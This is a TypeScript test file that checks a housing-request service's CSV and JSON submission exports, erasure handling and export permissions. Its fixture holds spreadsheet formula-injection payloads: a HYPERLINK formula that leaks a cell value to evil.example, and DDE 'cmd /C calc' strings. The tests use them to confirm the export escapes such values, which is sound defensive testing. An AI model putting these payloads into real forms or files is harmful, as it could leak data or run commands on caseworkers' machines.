import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { journeysFolder } from '../scheduler/testing/journeys';
import { type Started, start, submit } from '../testing/flows';
import { startTestServer, type TestServer, TOKENS } from '../testing/test-server';
import { HOUSING_REQUEST } from './testing/housing-journey';
import { parseCsv } from './testing/parse-csv';

const CSV = '/api/v1/journeys/housing-request/versions/1.0.0/submissions.csv';
const JSON_EXPORT = '/api/v1/journeys/housing-request/versions/1.0.0/submissions.json';
const FORMULA_START = /^[=+\-@\t\r]/;

const HOSTILE = {
  fullName: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
  notes: '+1+cmd|\' /C calc\'!A0\nSecond line, with "quotes", a comma and ŵ',
  rent: 125_050,
  moveDate: '2026-04-01',
  hasPets: true,
  needs: ['step-free', 'garden'],
  address: { line1: '@SUM(1+1)*cmd|" /C calc"!A0', town: 'Aberystwyth', postcode: 'SY23 1AA' },
};

const journeys = journeysFolder([HOUSING_REQUEST]);
let s: TestServer;
let sent: Started & { reference: string };
let quiet: Started & { reference: string };
let unsent: Started;
let erased: Started;

async function sendRequest(answers: Record<string, unknown>, people: Array<Record<string, string>>) {
  const app = await start(s, 'housing-request');
  await submit(s, app, 'about-you', answers);
  for (const person of people) {
    const r = await s.call('POST', `/api/v1/instances/${app.instanceId}/steps/people/items`, {
      token: app.token,
      body: { answers: person },
    });
    expect(r.status, JSON.stringify(r.body)).toBe(200);
  }
  await submit(s, app, 'people');
  const view = await submit(s, app, 'check-answers');
  return { ...app, reference: view.reference as string };
}

beforeAll(async () => {
  s = await startTestServer({ overrides: { journeysDir: journeys.dir } });
  sent = await sendRequest(HOSTILE, [
    { name: '-Gwen', relationship: '=1+1' },
    { name: 'Dafydd', relationship: 'Son' },
  ]);
  s.clock.advance(60_000);
  quiet = await sendRequest(
    {
      fullName: 'Siân Price',
      rent: 60_000,
      moveDate: '2026-05-01',
      hasPets: false,
      address: HOSTILE.address,
    },
    [],
  );
  unsent = await start(s, 'housing-request');
  s.clock.advance(60_000);
  erased = await sendRequest({ ...HOSTILE, fullName: 'Erased Person' }, []);
  const erasure = await s.call('POST', `/api/v1/instances/${erased.instanceId}/erasure`, {
    token: TOKENS.dpo,
  });
  expect(erasure.status).toBe(200);
});
afterAll(async () => {
  await s.stop();
  journeys.remove();
});

describe('CSV export of submissions', () => {
  it('has one row per sent application and a column per field, with answers as shown', async () => {
    const r = await fetch(`${s.url}${CSV}`, { headers: { authorization: `Bearer ${TOKENS.caseworker}` } });
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(r.headers.get('content-disposition')).toBe(
      'attachment; filename="housing-request-1.0.0-submissions.csv"',
    );
    expect(r.headers.get('cache-control')).toBe('no-store');
    const rows = parseCsv(await r.text());
    const [header, ...body] = rows;
    expect(header).toEqual([
      'reference',
      'instanceId',
      'status',
      'outcome',
      'startedAt',
      'submittedAt',
      'completedAt',
      'erasedAt',
      'fullName',
      'notes',
      'rent',
      'moveDate',
      'hasPets',
      'needs',
      'address',
      'people',
    ]);
    expect(body.map((row) => row[1])).toEqual([sent.instanceId, quiet.instanceId, erased.instanceId]);
    const row = Object.fromEntries(header!.map((name, i) => [name, body[0]![i]]));
    expect(row).toEqual({
      reference: sent.reference,
      instanceId: sent.instanceId,
      status: 'completed',
      outcome: 'submitted',
      startedAt: '2026-03-04T10:00:00.000Z',
      submittedAt: '2026-03-04T10:00:00.000Z',
      completedAt: '2026-03-04T10:00:00.000Z',
      erasedAt: '',
      fullName: `'${HOSTILE.fullName}`,
      notes: `'${HOSTILE.notes}`,
      rent: '£1,250.50',
      moveDate: '1 April 2026',
      hasPets: 'Yes',
      needs: 'Step-free access, A garden',
      address: `'${HOSTILE.address.line1}, Aberystwyth, SY23 1AA`,
      people: JSON.stringify([
        { name: '-Gwen', relationship: '=1+1' },
        { name: 'Dafydd', relationship: 'Son' },
      ]),
    });
    expect(body[1]![9], 'the optional question Siân left blank is an empty cell').toBe('');
    expect(body[1]![12]).toBe('No');
    // Erased: the row stays (it was sent), its answers are gone.
    expect(body[2]!.slice(8).every((cell) => cell === '')).toBe(true);
    expect(body[2]![7]).not.toBe('');
    for (const cells of rows) for (const cell of cells) expect(FORMULA_START.test(cell), cell).toBe(false);
  });

  it('lists applications not yet sent too with include=all', async () => {
    const r = await s.call('GET', `${CSV}?include=all`, { token: TOKENS.caseworker });
    const rows = parseCsv(r.body as string);
    expect(rows.slice(1).map((row) => row[1])).toEqual([
      sent.instanceId,
      quiet.instanceId,
      erased.instanceId,
      unsent.instanceId,
    ]);
    expect(rows.at(-1)?.slice(2, 6)).toEqual(['inProgress', '', '2026-03-04T10:01:00.000Z', '']);
  });
});

describe('JSON export of submissions', () => {
  it('gives answers as stored and as shown', async () => {
    const r = await s.call('GET', JSON_EXPORT, { token: TOKENS.dpo });
    expect(r.status).toBe(200);
    expect(r.headers.get('cache-control')).toBe('no-store');
    expect(r.body.journey).toEqual({
      id: 'housing-request',
      version: '1.0.0',
      title: 'Ask for help with housing',
    });
    expect(r.body.scope).toBe('submitted');
    expect(r.body.fields.slice(0, 3)).toEqual([
      { name: 'fullName', type: 'text', label: 'Full name' },
      { name: 'notes', type: 'longText', label: 'Anything else we should know' },
      { name: 'rent', type: 'money', label: 'Monthly rent' },
    ]);
    const [first, , gone] = r.body.submissions;
    expect(first.answers).toMatchObject({
      ...HOSTILE,
      people: [
        { name: '-Gwen', relationship: '=1+1' },
        { name: 'Dafydd', relationship: 'Son' },
      ],
    });
    expect(first.display).toMatchObject({ fullName: HOSTILE.fullName, rent: '£1,250.50', hasPets: 'Yes' });
    expect(gone).toMatchObject({ instanceId: erased.instanceId, answers: null, display: null });
    expect(gone.erasedAt).toEqual(expect.any(String));
  });
});

describe('who may export', () => {
  it('refuses caseworkers without a role of the journey, designers, and residents', async () => {
    expect((await s.call('GET', CSV, { token: TOKENS.otherCaseworker })).status).toBe(403);
    expect((await s.call('GET', CSV, { token: TOKENS.designer })).status).toBe(403);
    expect((await s.call('GET', CSV, { token: sent.token })).status).toBe(401);
    expect((await s.call('GET', CSV)).status).toBe(401);
  });

  it('answers 404 for a version not published, and 400 for an unknown include', async () => {
    const missing = await s.call('GET', '/api/v1/journeys/housing-request/versions/9.0.0/submissions.csv', {
      token: TOKENS.caseworker,
    });
    expect(missing.status).toBe(404);
    expect(missing.body.code).toBe('journey.version-not-found');
    expect((await s.call('GET', `${CSV}?include=everything`, { token: TOKENS.caseworker })).status).toBe(400);
  });
});
